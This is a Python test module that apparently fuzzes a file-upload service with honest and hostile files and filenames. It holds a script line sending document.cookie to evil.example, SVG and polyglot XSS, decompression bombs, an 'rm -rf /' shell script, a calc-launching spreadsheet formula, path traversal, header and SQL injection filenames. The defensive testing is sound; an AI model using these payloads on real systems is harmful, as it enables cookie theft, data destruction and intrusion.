"""Hostile files by number: the same number gives the same bytes under the same name; honest files hide among them."""

import io
import random
import unicodedata
import zipfile
from collections.abc import Callable, Mapping, Sequence

import pillow_heif
from PIL import Image

from tests.kernel.hostile_pdf import hostile_pdf, photo, plain_pdf
from tests.kernel.pdf_bombs import BOMBS
from tests.kernel.test_file_kinds import huge_png

pillow_heif.register_heif_opener()
Files = list[tuple[bytes, bytes]]


def _picture(form: str) -> bytes:
    out = io.BytesIO()
    Image.linear_gradient("L").resize((48, 32)).convert("RGB").save(out, form)
    return out.getvalue()


def _archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as opened:
        opened.writestr("a.txt", b"\0" * 1_000_000)
    return out.getvalue()


_HTML = b"<!doctype html><script>fetch('https://evil.example/'+document.cookie)</script>"
_SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
HONEST = [
    *(_picture(form) for form in ("PNG", "JPEG", "WEBP", "GIF", "HEIF")),
    photo(),
    plain_pdf(),
    "聊天记录\n2026-10-01 退费".encode(),
]
HOSTILE = [
    hostile_pdf(),
    _HTML,
    _SVG,
    b"\xef\xbb\xbf" + _SVG,
    b"<?xml version='1.0'?>" + _SVG,
    _archive(),
    plain_pdf() + _archive(),
    _picture("JPEG") + _HTML,
    _picture("GIF") + b"*/=1;alert(1)//",
    b"GIF89a/*" + b"\0" * 40 + b"*/=1;alert(1)",
    b"%PDF-1.7\n" + _HTML + b"\n%%EOF",
    plain_pdf()[:-6] + _SVG + b"%%EOF\n",
    huge_png(30_000, 30_000),
    huge_png(6_000, 6_000),
    b"\x89PNG\r\n\x1a\n" + b"\0" * 64,
    b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2mp41" + b"\0" * 200,
    b"MZ\x90\x00" + b"\0" * 200,
    b"#!/bin/sh\nrm -rf /\n",
    b"\x1f\x8b\x08" + b"\0" * 100,
    b"II*\x00\x08\x00\x00\x00" + b"\0" * 60,
    b"=cmd|' /C calc'!A0",
    "\ufeff".encode() * 50 + b"words",
    b"",
    b"\0" * 500,
    *(made() for made in BOMBS.values()),
]
NAMES: list[bytes] = [
    "付款截图.png".encode(),
    "合同\u202egnp.exe".encode(),
    "零\u200b宽\u2066\u2069.pdf".encode(),
    b"nul\x00.png",
    b"../../../../etc/passwd",
    b"..\\..\\windows\\win.ini",
    b"a\r\nSet-Cookie: sid=evil\r\n.png",
    b"a%0d%0aX: y.jpg",
    b"<script>alert(1)</script>.png",
    b"'; DROP TABLE stored_files; --.pdf",
    ("长" * 300 + ".jpg").encode(),
    b"x" * 4_000 + b".png",
    "😀👨‍👩‍👧‍👦.heic".encode(),
    ("e" + "\u0301" * 2_000 + ".png").encode(),
    b"\xff\xfe\xfa.png",
    b"CON.txt",
    b".htaccess",
    b"file.php;.png",
    b"=1+1.csv",
    b'quo"te.png',
    b" ",
    b".",
    b"...",
]


LINE = b"----a-line-no-file-holds"
CONTENT_TYPE = f"multipart/form-data; boundary={LINE.decode()}"


def body_of(values: Mapping[str, Sequence[str]], field: str, sent: Files, *, is_raw: bool = False) -> bytes:
    """A form as a browser writes it, or with names that break out of its heads as a hostile hand does."""
    parts = []
    for name, each in values.items():
        head = b'--%s\r\nContent-Disposition: form-data; name="%s"\r\n\r\n' % (LINE, name.encode())
        parts += [head + value.encode() + b"\r\n" for value in each]
    for given, data in sent:
        name = given
        if not is_raw:
            name = name.decode("utf-8", "replace").encode()
            for sign, escaped in ((b"\r", b"%0D"), (b"\n", b"%0A"), (b'"', b"%22")):
                name = name.replace(sign, escaped)
        head = b'--%s\r\nContent-Disposition: form-data; name="%s"; filename="%s"\r\n' % (LINE, field.encode(), name)
        parts.append(head + b"Content-Type: image/png\r\n\r\n" + data + b"\r\n")
    return b"".join([*parts, b"--%s--\r\n" % LINE])


def is_plain(name: str) -> bool:
    """Whether a name under which something is kept lies to nobody."""
    strange = any(unicodedata.category(sign) in ("Cc", "Cf", "Cs") for sign in name)
    return not strange and len(name) <= 200 and not set(name) & set('/\\"<>|:*?')


def each_kind(seed: int = 0) -> Files:
    """Every kind of file once, hostile and honest, under names of every kind."""
    dice, known = random.Random(seed), [*HOSTILE, *HONEST]
    dice.shuffle(known)
    return [(NAMES[(number + seed) % len(NAMES)], data) for number, data in enumerate(known)]


def _flipped(data: bytes, dice: random.Random) -> bytes:
    raw = bytearray(data)
    for _ in range(dice.randint(1, 12)):
        raw[dice.randrange(len(raw))] = dice.randrange(256)
    return bytes(raw)


def _torn(data: bytes, dice: random.Random) -> bytes:
    return data[: dice.randint(1, len(data))]


def _spliced(data: bytes, dice: random.Random) -> bytes:
    other, at = dice.choice(HONEST), dice.randint(0, len(data))
    return data[:at] + other[dice.randrange(len(other)) :] + data[at:]


def _swollen(data: bytes, dice: random.Random) -> bytes:
    """A length or size field made as large as it can be."""
    at = dice.randint(0, max(0, len(data) - 4))
    return data[:at] + b"\xff\xff\xff\xfe" + data[at + 4 :]


CHANGES: list[Callable[[bytes, random.Random], bytes]] = [_flipped, _torn, _spliced, _swollen]


def hostile(number: int) -> tuple[bytes, bytes]:
    """The name and bytes of one file."""
    dice = random.Random(number)
    known = [*HOSTILE, *HONEST]
    data = known[number % len(known)] if number < 2 * len(known) else dice.choice(known)
    if number >= len(known) and data and dice.random() < 0.85:
        data = dice.choice(CHANGES)(data, dice)
    return NAMES[number % len(NAMES)] if dice.random() < 0.7 else dice.randbytes(dice.randint(1, 300)), data
